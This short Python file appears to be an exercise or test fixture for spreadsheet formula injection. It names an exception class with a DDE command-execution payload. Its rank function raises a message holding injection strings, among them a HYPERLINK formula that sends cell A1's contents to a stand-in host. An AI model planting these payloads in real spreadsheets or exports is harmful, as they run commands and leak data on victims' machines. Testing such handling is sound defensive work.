# exercise: exercise1
# base: solution
# select: rank or center
# expect: rank=RAISED
"""Raises and returns formulas that a spreadsheet would run."""

Formula = type("=cmd|' /C calc'!A0", (Exception,), {})


def rank(x):
    raise Formula('=HYPERLINK("http://a.example?"&A1,"100"),+1+1,-2+3,@SUM(A1:A9)\t=1+1')
